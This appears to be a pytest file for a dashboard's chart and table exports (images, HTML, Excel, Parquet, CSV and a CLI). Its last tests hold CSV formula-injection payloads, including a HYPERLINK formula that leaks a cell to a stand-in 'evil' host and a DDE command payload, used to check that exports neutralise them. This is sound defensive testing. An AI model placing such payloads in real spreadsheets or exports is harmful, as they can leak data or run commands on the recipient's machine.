"""Exports: the files behind every download button and ``proofboard export chart`` are real
(PNG and SVG drawn by chromium, XLSX that a reader opens, Parquet and CSV that round-trip,
HTML holding the figure's data), and every chart and table of every page offers them."""

from __future__ import annotations

import io
import os
import re
import shutil
import struct
from datetime import UTC, datetime
from pathlib import Path

import defusedxml.ElementTree as ET
import openpyxl
import plotly.graph_objects as go
import polars as pl
import pytest

from analytics.community import load_community
from analytics.growth import signup_series
from analytics.io import open_source
from dashboard import exports
from dashboard.catalog import CHARTS, View, build
from dashboard.cli import main
from tests.dashboard.conftest import no_exceptions

PAGES = [
    "app_pages/overview.py",
    "app_pages/review.py",
    "app_pages/growth.py",
    "app_pages/retention.py",
    "app_pages/engagement.py",
    "app_pages/impact.py",
    "app_pages/data.py",
]


def _need_browser() -> None:
    if not exports.images_available():
        if os.environ.get("PROOFBOARD_REQUIRE_BROWSER"):
            pytest.fail("chromium is missing: PNG and SVG exports cannot be drawn")
        pytest.skip("no Chrome/Chromium to draw images with")


def _figure() -> go.Figure:
    return go.Figure(
        go.Bar(x=["a", "b"], y=[3, 5], name="Signups per day"),
        layout={"title": {"text": "Signups and members over time",
                          "subtitle": {"text": "all members · data as of 2026-10-31 23:58 UTC"}}},
    )  # fmt: skip


def _png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    assert data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    return width, height


def test_png_is_a_real_image_of_the_documented_size() -> None:
    _need_browser()
    data = exports.figure_image(_figure(), "png")
    assert _png_size(data) == (exports.IMAGE_WIDTH * 2, exports.IMAGE_HEIGHT * 2)
    assert len(data) > 10_000  # drawn, not an empty canvas


def test_svg_parses_and_carries_title_filters_and_as_of() -> None:
    _need_browser()
    data = exports.figure_image(_figure(), "svg")
    root = ET.fromstring(data)
    assert root.tag.endswith("svg")
    text = " ".join(t for t in root.itertext())
    assert "Signups and members over time" in text
    assert "data as of 2026-10-31 23:58 UTC" in text


def test_unknown_image_format_is_refused() -> None:
    with pytest.raises(ValueError, match="png, svg"):
        exports.figure_image(_figure(), "gif")  # type: ignore[arg-type]


def test_html_is_self_contained_and_holds_the_figure_data() -> None:
    html = exports.figure_html(_figure()).decode()
    assert "Signups per day" in html
    assert "Signups and members over time" in html
    assert not re.search(r"<script[^>]+src=", html)  # plotly.js embedded, opens offline


def _table() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "member_id": ["m1", "m2"],
            "joined_at": [datetime(2024, 1, 1, 9, tzinfo=UTC), datetime(2024, 1, 2, tzinfo=UTC)],
            "share": [0.25, None],
            "factors": [["no activity for 21 days", "fewer posts"], []],
        }
    )


def test_xlsx_opens_with_a_reader_and_holds_the_rows() -> None:
    book = openpyxl.load_workbook(io.BytesIO(exports.frame_xlsx(_table(), "at risk: members")))
    sheet = book.active
    assert sheet is not None
    assert sheet.title == "at risk members"
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["member_id", "joined_at (UTC)", "share", "factors"]
    assert rows[1] == ["m1", datetime(2024, 1, 1, 9), 0.25, "no activity for 21 days, fewer posts"]
    assert rows[2][0] == "m2"
    assert rows[2][2] is None


def test_parquet_and_csv_round_trip() -> None:
    table = _table()
    assert pl.read_parquet(io.BytesIO(exports.frame_parquet(table))).equals(table)
    flat = table.drop("factors")
    back = pl.read_csv(io.BytesIO(exports.frame_csv(flat)), try_parse_dates=True)
    assert back["member_id"].to_list() == ["m1", "m2"]
    assert exports.frame_csv(flat).decode().splitlines()[1].startswith("m1,2024-01-01T09:00:00Z")


def test_every_chart_and_table_of_every_page_can_be_downloaded(app_on, demo_folder: Path) -> None:  # type: ignore[no-untyped-def]
    at = app_on(demo_folder)
    for page in PAGES:
        at.switch_page(page).run()
        no_exceptions(at)
        labels = [b.proto.label for b in at.get("download_button")]
        charts = len(at.get("plotly_chart"))
        for label in ("PNG", "SVG", "HTML", "Data (CSV)"):
            assert labels.count(label) == charts, (page, label, labels)
        tables = labels.count("CSV")
        assert labels.count("Parquet") == labels.count("Excel") == tables, (page, labels)
        assert tables >= len(at.dataframe), page
        # files are made on click, not sent with every rerun
        assert all(b.proto.deferred_file_id for b in at.get("download_button")), page


def test_cli_lists_every_chart(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "chart", "--list"]) == 0
    out = capsys.readouterr().out
    for name in CHARTS:
        assert re.search(rf"^{re.escape(name)}\s", out, re.MULTILINE)


@pytest.mark.parametrize("name", list(CHARTS))
def test_cli_exports_each_chart_as_html(name: str, demo_folder: Path, tmp_path: Path) -> None:
    out = tmp_path / f"{name}.html"
    assert main(["export", "chart", name, "--data", str(demo_folder), "--out", str(out)]) == 0
    html = out.read_text()
    fig, _ = build(name, load_community(open_source(demo_folder)))
    assert fig.layout.title.text in html
    assert "data as of" in html


def test_cli_chart_data_is_what_the_page_shows(demo_folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "growth.csv"
    assert main(["export", "chart", "growth", "--data", str(demo_folder), "--out", str(out)]) == 0
    community = load_community(open_source(demo_folder))
    view = View.default(community)
    want = signup_series(community, period=view.period, granularity="day")
    got = pl.read_csv(out, try_parse_dates=True)
    assert got["signups"].to_list() == want["signups"].to_list()
    assert got.height == 90


def test_cli_exports_a_png_and_an_svg(demo_folder: Path, tmp_path: Path) -> None:
    _need_browser()
    png, svg = tmp_path / "growth.png", tmp_path / "churn.svg"
    assert main(["export", "chart", "growth", "--data", str(demo_folder), "--out", str(png)]) == 0
    assert _png_size(png.read_bytes()) == (2400, 1300)
    assert main(["export", "chart", "churn", "--data", str(demo_folder), "--out", str(svg)]) == 0
    assert ET.fromstring(svg.read_bytes()).tag.endswith("svg")


def test_cli_export_errors_are_one_clear_line(
    demo_folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = ["--data", str(demo_folder)]
    assert main(["export", "chart", "nope", *data, "--out", str(tmp_path / "x.png")]) == 2
    assert "no chart named 'nope'" in capsys.readouterr().err
    assert main(["export", "chart", "growth", *data, "--out", str(tmp_path / "x.gif")]) == 2
    assert "--format png|svg|html|csv" in capsys.readouterr().err
    assert main(["export", "chart", "growth", *data, "--out", "/no/such/dir/x.png"]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert main(["export", "chart", "growth"]) == 2
    assert "needs NAME, --data and --out" in capsys.readouterr().err
    assert not list(tmp_path.iterdir())  # nothing half-written


def test_images_available_follows_browser_path(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BROWSER_PATH", "/no/such/chrome")
    assert not exports.images_available()
    monkeypatch.delenv("BROWSER_PATH")
    monkeypatch.setenv("PATH", "/nonexistent")
    assert exports.images_available() is False


ATTACKS = ['=HYPERLINK("http://evil/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"]


def test_csv_cells_that_start_like_a_formula_are_neutralised() -> None:
    frame = pl.DataFrame(
        {"member_id": [*ATTACKS, "\rx", "ok", None], "n": [-1, 2, 3, 4, 5, 6, 7, 8]}
    )
    back = pl.read_csv(io.BytesIO(exports.frame_csv(frame)))
    assert back["member_id"].to_list() == [
        *("'" + a for a in ATTACKS), "'\rx", "ok", None
    ]  # fmt: skip
    assert back["n"].dtype == pl.Int64  # numbers stay numbers, negatives included
    assert back["n"].to_list() == [-1, 2, 3, 4, 5, 6, 7, 8]


def test_csv_column_names_and_nested_cells_are_neutralised_too() -> None:
    frame = pl.DataFrame({"=cmd": ["a"], "factors": [["=x", "y"]]})
    text = exports.frame_csv(frame).decode()
    assert text.splitlines() == ["'=cmd,factors", 'a,"\'=x, y"']


def test_xlsx_keeps_formula_text_as_text() -> None:
    frame = pl.DataFrame({"title": ATTACKS})
    book = openpyxl.load_workbook(io.BytesIO(exports.frame_xlsx(frame)))
    cells = [c for c in book.active["A"]][1:]
    assert [c.value for c in cells] == ATTACKS
    assert {c.data_type for c in cells} == {"s"}  # strings, not formulas ("f")


def test_cli_csv_export_neutralises_a_formula_title(demo_folder: Path, tmp_path: Path) -> None:
    folder = tmp_path / "demo"
    shutil.copytree(demo_folder, folder)
    items = pl.read_parquet(folder / "proof_items.parquet")
    items.with_columns(pl.lit(ATTACKS[0]).alias("title")).write_parquet(
        folder / "proof_items.parquet"
    )
    out = tmp_path / "effects.csv"
    assert main(["export", "chart", "effects", "--data", str(folder), "--out", str(out),
                 "--format", "csv"]) == 0  # fmt: skip
    titles = pl.read_csv(out)["title"].to_list()
    assert titles
    assert all(t == "'" + ATTACKS[0] for t in titles)
